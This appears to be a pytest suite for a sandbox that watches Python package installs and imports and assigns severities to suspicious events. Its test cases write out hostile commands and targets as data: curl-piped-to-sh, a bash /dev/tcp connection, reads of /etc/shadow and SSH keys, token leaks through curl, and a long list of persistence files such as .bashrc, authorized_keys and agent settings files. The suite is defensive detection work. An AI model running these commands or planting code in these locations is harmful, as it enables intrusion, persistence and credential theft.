"""The rules: each with acts that are grave and with harmless relatives that are not."""

# ruff: noqa: S108 - the paths are those of the jail

from dataclasses import replace

import pytest

from jail.orders import HOME_IN_JAIL, WORK_IN_JAIL
from jail.report.places import HOME_PLACES, PROJECT_PLACES, what_waits_at
from jail.report.rules import judge
from jail.watch.events import (
    Actor,
    BaitLeaked,
    BaitRead,
    Change,
    Code,
    Connection,
    DependencyDenied,
    Downloaded,
    Event,
    Exec,
    FailedOften,
    FileChanged,
    Finding,
    IndexRefused,
    LeftAtWork,
    NameAsked,
    Net,
    Phase,
    PhaseName,
    ProcessEnded,
    Rule,
    Severity,
    StartupCode,
    TraceContradicted,
    TraceCut,
    WitnessTampered,
)

HIGH, MEDIUM, INFO = Severity.HIGH, Severity.MEDIUM, Severity.INFO
SITE = f"{WORK_IN_JAIL}/site/a-package-1.0"
WHO = Actor(7, "python x.py", "/x.py:3")


def the(event: Event, name: PhaseName = PhaseName.IMPORT) -> Finding:
    """The only finding of an event in a phase of this name."""
    (finding,) = judge(Phase(name), event)
    return finding


# --- process.spawn ---


@pytest.mark.parametrize(
    ("program", "words", "severity"),
    [
        ("/usr/bin/curl", "curl http://192.0.2.1/", HIGH),
        ("/usr/bin/base64", "gcc --version", HIGH),
        ("/tmp/x/anything", "curl", HIGH),
        ("/bin/busybox", "busybox wget http://x/", HIGH),
        ("/bin/sh", "sh -c curl -s http://x/ | sh", HIGH),
        ("/bin/bash", "bash -c exec 3<>/dev/tcp/192.0.2.1/80", HIGH),
        ("/bin/cat", "cat /etc/shadow", HIGH),
        ("/bin/cat", "cat ../.ssh/known_hosts", HIGH),
        ("(a file without a name)", "memory --flag", HIGH),
        ("/proc/self/fd/3", "by-path", HIGH),
        ("/proc/self/exec", "x", HIGH),
        ("/proc/self/exe", "python -c 1", MEDIUM),
        ("/dev/fd/3", "x", HIGH),
        ("/memfd:x (deleted)", "x", HIGH),
        ("/tmp/dropped", "dropped", HIGH),
        ("//tmp/dropped", "dropped", HIGH),
        ("/usr/../tmp/dropped", "dropped", HIGH),
        ("/usr/./../tmp/./dropped", "dropped", HIGH),
        (f"{WORK_IN_JAIL}/tmp/dropped", "dropped", HIGH),
        ("/dev/shm/dropped", "dropped", HIGH),
        (f"{HOME_IN_JAIL}/dropped", "dropped", HIGH),
        ("dropped", "dropped", HIGH),
        ("/bin/sh", "sh /tmp/script", HIGH),
        ("/bin/sh", "sh -x //tmp/script", HIGH),
        ("/usr/bin/python3.11", "python3 -I /tmp/script.py", HIGH),
        ("/usr/bin/python3.11", "python3 -W ignore /tmp/script.py", HIGH),
        ("/usr/bin/python3.11", "python3 -c code /tmp/argument", MEDIUM),
        ("/usr/bin/python3.11", f"python3 {SITE}/tool.py /tmp/argument", MEDIUM),
        ("/usr/bin/python3.11", "python3 -m tool /tmp/argument", MEDIUM),
        ("/usr/bin/python3.11", "python3 -m pip -c /tmp/argument", MEDIUM),
        ("/usr/bin/true", "true", MEDIUM),
        ("/usr/bin/x86_64-linux-gnu-gcc-12", "gcc -c x.c", INFO),
        ("/usr//bin/gcc", "gcc -c x.c", INFO),
        ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1 x.c", INFO),
        ("/usr/bin/git", "git --version", INFO),
        (f"{SITE}/bin/gcc", "gcc", MEDIUM),
    ],
)
def test_a_program_is_judged_by_what_it_is(program: str, words: str, severity: Severity) -> None:
    finding = the(Exec(program, tuple(words.split(" ")), None, WHO))
    assert (finding.severity, finding.rule) == (severity, Rule.PROCESS_SPAWN)
    assert (finding.place, finding.process) == ("/x.py:3", "python x.py")


def test_a_build_may_run_what_it_has_made() -> None:
    event = Exec("/tmp/pip-build/configure", ("configure",), None, WHO)
    assert the(event, PhaseName.INSTALL).severity == MEDIUM
    assert the(event).severity == HIGH
    named = Exec("/tmp/gcc", ("/tmp/gcc", "steal"), None, WHO)
    assert the(named, PhaseName.INSTALL).severity == MEDIUM


def test_a_made_up_program_that_a_called_function_could_not_start_hides_nothing() -> None:
    unsaid = replace(WHO, place=None, hidden=True)
    made_up = Exec("/bin/harbor", ("harbor",), "ENOENT", unsaid)
    started = replace(made_up, error=None)
    called = Phase(PhaseName.CALL)
    assert [found.rule for found in judge(called, made_up)] == [Rule.PROCESS_SPAWN]
    hidden = [Rule.PROCESS_SPAWN, Rule.WITNESS_HIDDEN]
    assert [found.rule for found in judge(called, started)] == hidden
    assert [found.rule for found in judge(Phase(PhaseName.IMPORT), made_up)] == hidden


def test_a_helper_of_multiprocessing_is_the_librarys() -> None:
    words = ("python", "-c", "from multiprocessing.resource_tracker import main;main(3)")
    python = f"{WORK_IN_JAIL}/../python/bin/python"
    assert the(Exec(python, words, None, WHO, pool_helper=True)).severity == INFO
    assert the(Exec(python, words, None, WHO)).severity == MEDIUM
    # Its words alone excuse nothing.
    program = Exec("/usr/bin/wget", ("from multiprocessing.x",), None, WHO, pool_helper=True)
    assert the(program).severity == HIGH


@pytest.mark.parametrize(
    ("event", "title"),
    [
        (Exec("/bin/true", ("true", "a"), None, WHO), "runs true a"),
        (Exec("/bin/true", ("/x/true", "a"), None, WHO), "runs /x/true a"),
        (Exec("/bin/base64", ("gcc",), None, WHO), "runs /bin/base64 as gcc"),
        (Exec("/bin/no", ("no",), "ENOENT", WHO), "runs no (ENOENT)"),
        (Exec("/bin/no", (), None, WHO), "runs /bin/no as "),
    ],
)
def test_a_title_says_what_was_run(event: Exec, title: str) -> None:
    assert the(event).title == title


# --- network.attempt ---


@pytest.mark.parametrize(
    ("net", "target", "listens", "severity", "title"),
    [
        (Net.TCP, "192.0.2.1:443", False, HIGH, "connects (tcp) to 192.0.2.1:443"),
        (Net.UDP, "[2001:db8::1]:53", False, HIGH, "sends (udp) to [2001:db8::1]:53"),
        (Net.UDP, "who it was connected to", False, HIGH, "sends (udp) to who it was connected to"),
        (Net.TCP, "127.0.0.1:80", False, MEDIUM, "connects (tcp) to 127.0.0.1:80"),
        (Net.TCP, "127.0.0.1.evil.example:80", False, HIGH, None),
        (Net.TCP, "[::1]:80", False, MEDIUM, None),
        (Net.TCP, "[::ffff:127.0.0.1]:80", False, MEDIUM, None),
        (Net.TCP, "0.0.0.0:80", True, MEDIUM, "listens on 0.0.0.0:80"),
        (Net.TCP, "127.0.0.1:80", True, INFO, "listens on 127.0.0.1:80"),
        (Net.OTHER, "unix:/tmp/x/s", False, INFO, "uses unix:/tmp/x/s"),
        (Net.OTHER, "unix:/var/run/docker.sock", False, MEDIUM, None),
        (Net.OTHER, "unix:/tmp/ssh-abc/agent.12", False, MEDIUM, None),
        (Net.OTHER, "an odd family", False, MEDIUM, "uses an odd family"),
    ],
)
def test_a_connection_is_judged_by_where_it_leads(
    net: Net, target: str, listens: bool, severity: Severity, title: str | None
) -> None:
    finding = the(Connection(net, target, listens, None, WHO))
    assert (finding.severity, finding.rule) == (severity, Rule.NETWORK_ATTEMPT)
    assert title in (None, finding.title)


def test_who_speaks_to_himself_is_only_told() -> None:
    finding = the(Connection(Net.TCP, "127.0.0.1:40000", False, None, WHO, is_inside=True))
    assert (finding.severity, finding.rule) == (INFO, Rule.NETWORK_ATTEMPT)
    assert finding.title == "connects (tcp) to 127.0.0.1:40000, where it listens itself"


@pytest.mark.parametrize("name", ["evil.example", "unix:/x", "127.0.0.1:80", "localhost"])
def test_a_name_is_never_taken_for_an_address(name: str) -> None:
    assert the(NameAsked(name, WHO)).severity == HIGH
    assert the(NameAsked(name, WHO)).title == f"asks for the name {name}"
    assert the(NameAsked(name, WHO), PhaseName.EXECUTE).severity == MEDIUM
    assert the(NameAsked(name, Actor(own=True))).severity == HIGH


def test_a_host_that_is_read_as_a_known_one_says_so() -> None:
    name = "xn--ggle-55da.com"
    for phase in (PhaseName.IMPORT, PhaseName.CALL):
        told = the(NameAsked(name, WHO), phase)
        assert told.severity == HIGH
        assert told.title == f"asks for the name {name}, which is read as google.com"
    # Of a language of its own: bücher.example
    plain_name = the(NameAsked("xn--bcher-kva.example", WHO), PhaseName.CALL)
    assert (plain_name.severity, plain_name.title[-7:]) == (INFO, "example")


def test_what_a_called_function_does_is_what_it_is_for() -> None:
    for event in (
        NameAsked("evil.example", WHO),
        Connection(Net.TCP, "192.0.2.1:443", False, None, WHO),
        Exec("/usr/bin/curl", ("curl",), None, WHO),
    ):
        assert the(event, PhaseName.CALL).severity == INFO
    assert the(BaitRead("/x", None), PhaseName.CALL).severity == HIGH
    assert the(FileChanged(f"{HOME_IN_JAIL}/.bashrc", Change.CREATED, 1, None)).severity == HIGH


def test_what_pip_itself_does_is_no_finding() -> None:
    pip = Actor(7, "pip install", own=True)
    assert judge(Phase(PhaseName.INSTALL), Exec("/bin/uname", ("uname",), None, pip)) == ()
    index = Connection(Net.TCP, "127.0.0.1:3141", False, None, pip)
    assert judge(Phase(PhaseName.INSTALL), index) == ()
    # But a requirement by URL leads it astray.
    elsewhere = Connection(Net.TCP, "192.0.2.1:443", False, None, pip)
    assert the(elsewhere, PhaseName.INSTALL).severity == HIGH


def test_compiled_code_that_acts_is_no_silenced_witness() -> None:
    event = Connection(Net.TCP, "203.0.113.1:443", False, None, Actor(7, "x", native="x.so"))
    finding = the(event)
    assert (finding.severity, finding.rule) == ("high", "network.attempt")
    assert finding.title == "connects (tcp) to 203.0.113.1:443, by native code (x.so)"


@pytest.mark.parametrize("own", [False, True])
def test_what_python_did_unsaid_is_hidden(own: bool) -> None:
    actor = Actor(7, "python x.py", hidden=True, own=own)
    findings = judge(Phase(PhaseName.IMPORT), Exec("/bin/true", ("true",), None, actor))
    titles = ["runs true", "from Python, but unseen by Python's own witness: runs true"]
    assert [finding.title for finding in findings] == titles[own:]
    assert (findings[-1].severity, findings[-1].rule) == (HIGH, Rule.WITNESS_HIDDEN)
    assert findings[-1].process == "python x.py"


# --- persistence.write ---

WAITING = [
    ".bashrc",
    ".zshrc",
    ".profile",
    ".config/fish/config.fish",
    ".oh-my-zsh/custom/x.zsh",
    ".inputrc",
    ".config/nushell/config.nu",
    ".wezterm.lua",
    ".config/Cursor/User/settings.json",
    ".local/share/bash-completion/completions/git",
    ".config/autostart/x.desktop",
    ".config/systemd/user/evil.service",
    ".local/share/dbus-1/services/x.service",
    "bin/ls",
    ".local/bin/pip",
    ".ssh/authorized_keys",
    ".local/lib/python3.12/site-packages/x.py",
    ".pdbrc",
    ".pdbrc.py",
    ".config/pip/pip.conf",
    ".ipython/profile_default/startup/00-x.py",
    ".ipython/profile_default/ipython_config.py",
    ".jupyter/jupyter_server_config.py",
    ".vim/plugin/x.vim",
    ".vimrc",
    ".config/nvim/init.lua",
    ".emacs.d/init.el",
    ".emacs",
    ".vscode/extensions/x/package.json",
    ".claude/settings.json",
    ".cursor/mcp.json",
    ".gemini/settings.json",
    ".tmux.conf",
    ".screenrc",
    ".config/direnv/direnvrc",
    ".gitconfig",
    ".config/git/config",
    ".hgrc",
    ".aws/config",
    ".docker/cli-plugins/docker-x",
    ".docker/config.json",
    ".kube/config",
    ".cargo/config.toml",
    ".gradle/init.d/x.gradle",
    ".gradle/init.gradle",
    ".yarnrc.yml",
    ".config/powershell/profile.ps1",
    ".Rprofile",
    "project/.github/workflows/ci.yml",
    "project/.vscode/tasks.json",
    "project/AGENTS.md",
    ".npmrc",
    "code/deep/er/.git/hooks/pre-commit",
    "AGENTS.md",
    "project/CLAUDE.md",
    "project/.envrc",
    ".mozilla/native-messaging-hosts/x.json",
    ".config/google-chrome/NativeMessagingHosts/x.json",
]
EVERYDAY = [
    ".cache/pip/x",
    ".config/matplotlib/matplotlibrc",
    ".keras/keras.json",
    ".ipython/profile_default/db",
    ".ipython/profile_default/startup/README",
    ".jupyter/migrated",
    ".local/share/jupyter/runtime/x",
    ".config/dask/dask.yaml",
    ".local/share/x/y",
    "project/README.md",
    "project/agents.md.txt",
    ".vscode-data/x",
    "project/.github/FUNDING.yml",
    "nltk_data/x",
    "project/.gitignore",
    "binary",
    ".aws/sso/cache/x",
]


@pytest.mark.parametrize("path", WAITING)
def test_a_place_where_code_waits_is_grave(path: str) -> None:
    finding = the(FileChanged(f"{HOME_IN_JAIL}/{path}", Change.CREATED, 1, "/x.py:3"))
    assert (finding.severity, finding.rule) == (HIGH, Rule.PERSISTENCE_WRITE)
    assert finding.title.startswith(f"created {HOME_IN_JAIL}/{path} (")
    assert finding.place == "/x.py:3"


@pytest.mark.parametrize("path", EVERYDAY)
def test_an_everyday_file_is_none(path: str) -> None:
    event = FileChanged(f"{HOME_IN_JAIL}/{path}", Change.CREATED, 1, None)
    assert judge(Phase(PhaseName.IMPORT), event) == ()


def test_every_list_of_places_has_a_kind_a_source_and_paths() -> None:
    for places in (*HOME_PLACES, *PROJECT_PLACES):
        assert places.kind and len(places.source) > 10
        for path in places.paths.split():
            found = what_waits_at(f"{HOME_IN_JAIL}/{path.replace('*', 'x')}")
            assert found, path


def test_very_long_paths_cost_little() -> None:
    # 12,000 of these are all that the walk through a scratch takes in.
    path = f"{HOME_IN_JAIL}/{'/'.join(['.git', 'a' * 70] * 50)}"
    for _ in range(500):
        assert what_waits_at(path) is None


@pytest.mark.parametrize(
    ("path", "change", "phase", "severity"),
    [
        (f"{HOME_IN_JAIL}/.bashrc", Change.DELETED, PhaseName.IMPORT, HIGH),
        (f"/{HOME_IN_JAIL}/x/../.bashrc", Change.CREATED, PhaseName.IMPORT, HIGH),
        (f"{SITE}/lib/python3.11/site-packages/x.pth", Change.CREATED, PhaseName.INSTALL, HIGH),
        (f"{SITE}/sitecustomize.py", Change.CREATED, PhaseName.IMPORT, HIGH),
        (f"{SITE}/other.py", Change.MODIFIED, PhaseName.IMPORT, HIGH),
        (f"{SITE}/other.so", Change.MODIFIED, PhaseName.IMPORT, HIGH),
        (f"{SITE}/bin/tool", Change.MODIFIED, PhaseName.IMPORT, HIGH),
        (f"{SITE}/other.py", Change.MODIFIED, PhaseName.INSTALL, MEDIUM),
        (f"{SITE}/other.py", Change.CREATED, PhaseName.IMPORT, MEDIUM),
        (f"{SITE}/other.txt", Change.MODIFIED, PhaseName.IMPORT, MEDIUM),
        # A cache of the package's own, and what Python executes.
        (f"{SITE}/x/__pycache__/y.add-21.py311.nbi", Change.CREATED, PhaseName.CALL, INFO),
        (f"{SITE}/x/__pycache__/y.cpython-311.pyc", Change.CREATED, PhaseName.CALL, MEDIUM),
        (f"{SITE}/x/__pycache__/y.so", Change.MODIFIED, PhaseName.CALL, HIGH),
        (f"{SITE}/x/cache/y.nbi", Change.CREATED, PhaseName.CALL, MEDIUM),
        (f"{SITE}/other.py", Change.DELETED, PhaseName.IMPORT, None),
        ("/tmp/x", Change.CREATED, PhaseName.IMPORT, None),
        ("/tmp/pip-target-x/lib/python/x.pth", Change.CREATED, PhaseName.INSTALL, None),
        ("/tmp/pip-x/../../home/dev/.bashrc", Change.CREATED, PhaseName.INSTALL, HIGH),
        ("/tmp/y/site-packages/x.pth", Change.CREATED, PhaseName.IMPORT, HIGH),
        # No interpreter looks there.
        ("/tmp/pip-target-x/x.pth", Change.CREATED, PhaseName.IMPORT, None),
    ],
)
def test_a_change_is_judged_by_path_and_phase(
    path: str, change: Change, phase: PhaseName, severity: Severity | None
) -> None:
    findings = judge(Phase(phase), FileChanged(path, change, 1, None))
    assert [finding.severity for finding in findings] == [severity] * (severity is not None)


def test_a_file_is_judged_by_every_name_that_leads_to_it() -> None:
    hidden = f"{HOME_IN_JAIL}/data/bin/pip"
    names = ("/tmp/x", f"{HOME_IN_JAIL}/.local/bin/pip", f"{SITE}/x")
    finding = the(FileChanged(hidden, Change.CREATED, 1, None, other_paths=names))
    assert finding.severity == HIGH
    path = f"{HOME_IN_JAIL}/.local/bin/pip"
    assert finding.title == f"created {path} by way of {hidden} (on the command path)"


def test_a_folder_that_shadows_a_module_is_as_grave_as_a_change_of_it() -> None:
    path = f"{SITE}/victim/__init__.py"
    finding = the(FileChanged(path, Change.CREATED, 1, None, shadows="victim.py"))
    assert finding.severity == HIGH
    assert "in place of victim.py" in finding.title
    assert the(FileChanged(path, Change.CREATED, 1, None)).severity == MEDIUM


# --- the others ---


def test_code_that_runs_at_every_start() -> None:
    finding = the(StartupCode(f"{SITE}/x.pth", "import evil"))
    assert (finding.severity, finding.rule) == (MEDIUM, Rule.PTH_CODE)
    assert finding.title == f"{SITE}/x.pth runs code at every interpreter start: import evil"
    assert finding.place == f"{SITE}/x.pth"
    staging = StartupCode("/tmp/pip-target-x/x.pth", "import x")
    assert judge(Phase(PhaseName.INSTALL), staging) == ()


CACHE = "def __hash__(self, *, _cache=__import__('attr._make')._make._CacheHashWrapper): ..."


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        (CACHE, INFO),
        ("__import__('os').system('id')", MEDIUM),
        ("exec(code)", MEDIUM),
        ("def __init__(self, a):\n    self.a = a", INFO),
        # A word in a message starts nothing: pytest-cov's .pth file has this one.
        ("sys.stderr.write('Failed to setup subprocess coverage')", INFO),
        ("import os, subprocess as s", MEDIUM),
        ("subprocess.run(['id'])", MEDIUM),
        ("load('subprocess')", MEDIUM),
    ],
)
def test_generated_code_is_judged_by_what_it_does(text: str, severity: Severity) -> None:
    finding = the(Code("0", 3, "/x.py:1", False, text))
    assert (finding.severity, finding.rule) == (severity, Rule.CODE_DYNAMIC)
    assert finding.title == "executes generated code, 3 bytes"
    decoded = the(Code("0", 3, None, True, text))
    assert (decoded.severity, decoded.title) == (HIGH, "executes decoded code, 3 bytes")


def test_bait() -> None:
    read = the(BaitRead("/home/dev/.ssh/id_rsa", "/x.py:1"))
    assert (read.severity, read.rule, read.place) == (HIGH, Rule.SECRET_READ, "/x.py:1")
    leaked = the(BaitLeaked("NPM_TOKEN", "command curl x", WHO))
    assert (leaked.severity, leaked.rule) == (HIGH, Rule.SECRET_READ)
    assert leaked.title == "passes on NPM_TOKEN in command curl x"
    # What a function prints stays on the machine.
    printed = BaitLeaked("NPM_TOKEN", "output on stdout", WHO)
    phases = (PhaseName.IMPORT, PhaseName.EXECUTE, PhaseName.CALL)
    severities = [judge(Phase(name), printed)[0].severity for name in phases]
    assert severities == [HIGH, HIGH, INFO]


@pytest.mark.parametrize(
    ("event", "severity", "words"),
    [
        (WitnessTampered("2 malformed lines"), MEDIUM, "the Python witness: 2 malformed lines"),
        (TraceContradicted("connect to x: E", WHO), HIGH, "another call than it makes: connect"),
        (TraceCut("sendmmsg", WHO), HIGH, "makes a sendmmsg whose trace is too long"),
        (FailedOften("192.0.2.1:80", "EIO", 900, WHO), MEDIUM, "900 times in vain: 192.0.2.1:80"),
        (FailedOften("127.0.0.1:80", "ECONNREFUSED", 900, WHO), INFO, "900 times in vain"),
    ],
)
def test_tampering_with_a_witness(event: Event, severity: Severity, words: str) -> None:
    finding = the(event)
    assert (finding.severity, finding.rule) == (severity, Rule.EVIDENCE_TAMPER)
    assert words in finding.title


def test_what_was_left_at_work() -> None:
    finding = the(LeftAtWork(3, "sleep"))
    assert (finding.severity, finding.rule, finding.process) == (MEDIUM, Rule.LIMIT_HIT, "sleep")


@pytest.mark.parametrize(
    "event",
    [
        Downloaded("x.whl", 1, "0", False),
        IndexRefused("x", "no"),
        DependencyDenied("torch"),
        ProcessEnded(1, 0, ("x",), 0, None, False, True),
    ],
)
def test_what_is_no_finding(event: Event) -> None:
    assert judge(Phase(PhaseName.INSTALL), event) == ()


def test_titles_are_safe_and_bounded() -> None:
    title = the(Exec("/bin/true", ("true", "\x1b[2J" + "x" * 5000), None, WHO)).title
    assert title.isprintable()
    assert len(title) == 300
